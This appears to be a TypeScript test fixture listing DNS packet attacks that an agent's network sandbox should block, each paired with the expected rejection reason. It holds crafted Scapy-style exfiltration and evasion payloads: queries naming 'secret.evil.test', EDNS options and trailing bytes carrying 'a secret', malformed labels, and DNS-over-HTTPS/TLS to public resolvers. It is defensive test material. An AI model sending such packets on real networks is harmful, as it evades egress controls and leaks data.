import type { Attacks, Step } from '../attack.ts';

const name = 'files.example.com';
const asking = 'IP(src=alpha, dst=resolver)/UDP(sport=port, dport=53)';
const record = `DNSRR(rrname="${name}", ttl=300, rdata="192.0.2.1")`;
const asks = (question: string): Step => ({
  from: 'alpha',
  send: `${asking}/${question}`,
  reaches: 'outside',
});

/** What the agent asks to carry something out, or to learn what it should not. */
export const questionAttacks: Attacks = {
  'a name of letters in any case is the same name': [asks('question("fIlEs.ExAmPlE.cOm")')],
  'names that are nobody’s to ask, above, below and beside the allowed one': [
    {
      from: 'alpha',
      send: [
        'example.com',
        'secret.files.example.com',
        'files.example.com.evil.test',
        'xfiles.example.com',
        'files.example.co',
        'com',
      ].map((other) => `${asking}/question("${other}")`),
      reason: 'dns-name',
    },
  ],
  'names that are not written as names': [
    {
      from: 'alpha',
      send: [
        'question(b"\\xc0\\x0c")',
        'question(b"\\x05files\\xc0\\x0c")',
        'question(b"\\x0dfiles.example\\x03com\\0")',
        'question(b"\\x05files\\x07exam\\0le\\x03com\\0")',
        'question(b"\\x05files\\x07ex mple\\x03com\\0")',
        'question(b"\\x05fil\\xc3\\xa9\\x07example\\x03com\\0")',
        'question(b"\\x85files\\x07example\\x03com\\0")',
        'question(b"\\x41" + b"a" * 65 + b"\\x03com\\0")',
        'question(b"\\x05files\\x07example\\x03com")',
        'question((b"\\x3f" + b"a" * 63) * 4 + b"\\0")',
        'question(b"\\0")',
        'question(b"")',
      ].map((question) => `${asking}/${question}`),
      reason: 'dns-malformed',
    },
  ],
  'more than one question, or none': [
    {
      from: 'alpha',
      send: [
        `DNS(id=7, rd=1, qd=DNSQR(qname="${name}")/DNSQR(qname="secret.evil.test"))`,
        `question("${name}", counts=(0, 0, 0, 0))`,
        `question("${name}", counts=(2, 0, 0, 0))`,
        `question("${name}", counts=(1, 1, 0, 0))`,
        `question("${name}", counts=(1, 0, 1, 0))`,
        `question("${name}", counts=(1, 0, 0, 2))`,
        `question("${name}", tail=b"a secret")`,
        `DNS(id=7, rd=1, qd=DNSQR(qname="${name}"), an=${record})`,
        `DNS(id=7, rd=1, qd=DNSQR(qname="${name}"), ar=${record})`,
      ].map((question) => `${asking}/${question}`),
      reason: 'dns-malformed',
    },
  ],
  'updates, notifications, answers and other classes': [
    {
      from: 'alpha',
      send: [
        ...[0x8180, 0x2800, 0x2000, 0x1000, 0x0800, 0x0400, 0x0200, 0x0080, 0x0040, 0x0001].map(
          (flags) => `question("${name}", flags=${flags})`,
        ),
        ...[0, 3, 4, 254, 255, 0x8001].map((of) => `question("${name}", of=${of})`),
      ].map((question) => `${asking}/${question}`),
      reason: 'dns-malformed',
    },
  ],
  'types that carry more than addresses': [
    {
      from: 'alpha',
      send: [
        2,
        6,
        10,
        13,
        12,
        24,
        25,
        29,
        33 + 2,
        43,
        48,
        64,
        65,
        99,
        249,
        250,
        251,
        252,
        255,
        257,
      ].map((kind) => `${asking}/question("${name}", kind=${kind})`),
      reason: 'dns-type',
    },
  ],
  'EDNS options that travel on, and a cargo in one': [
    {
      from: 'alpha',
      send: [
        'EDNS0TLV(optcode=8, optdata=b"\\0\\x01\\x18\\0\\x0a\\x08\\x01")',
        'EDNS0TLV(optcode=3, optdata=b"")',
        'EDNS0TLV(optcode=65001, optdata=b"a secret")',
        'EDNS0TLV(optcode=12, optdata=b"x" * 200)',
      ].map(
        (option) =>
          `${asking}/DNS(id=7, rd=1, qd=DNSQR(qname="${name}"), ar=DNSRROPT(rclass=1232, rdata=[${option}]))`,
      ),
      reason: 'dns-malformed',
    },
    asks(
      `DNS(id=7, rd=1, qd=DNSQR(qname="${name}"), ar=DNSRROPT(rclass=1232, rdata=[EDNS0TLV(optcode=10, optdata=b"x" * 8)]))`,
    ),
  ],
  'bytes behind the datagram, in its packet': [
    {
      from: 'alpha',
      send: `IP(src=alpha, dst=resolver)/UDP(sport=port, dport=53, len=8 + len(question("${name}")))/(question("${name}") + b"a secret")`,
      reason: 'dns-malformed',
    },
  ],
  'other servers, and other ways to ask': [
    {
      from: 'alpha',
      send: [
        `IP(src=alpha, dst=vault)/UDP(sport=port, dport=53)/question("${name}")`,
        `IP(src=alpha, dst=gateway)/UDP(sport=port, dport=53)/question("${name}")`,
        'IP(src=alpha, dst=vault)/TCP(sport=port, dport=53)',
      ],
      reason: 'dns-resolver',
    },
    {
      from: 'alpha',
      send: 'IP(src=alpha, dst=resolver)/TCP(sport=port, dport=53)',
      reason: 'dns-tcp',
    },
    {
      from: 'alpha',
      send: [
        'IP(src=alpha, dst=resolver)/TCP(sport=port, dport=853)',
        'IP(src=alpha, dst=resolver)/UDP(sport=port, dport=853)',
        'IP(src=alpha, dst=resolver)/TCP(sport=port, dport=443)',
        `IP(src=alpha, dst=resolver)/UDP(sport=port, dport=5353)/question("${name}")`,
        'IP(src=alpha, dst="1.1.1.1")/TCP(sport=port, dport=443)',
        'IP(src=alpha, dst="9.9.9.9")/TCP(sport=port, dport=853)',
        'IP(src=alpha, dst=resolver)/ICMP(id=port)',
      ],
      reason: 'no-clause',
    },
  ],
};
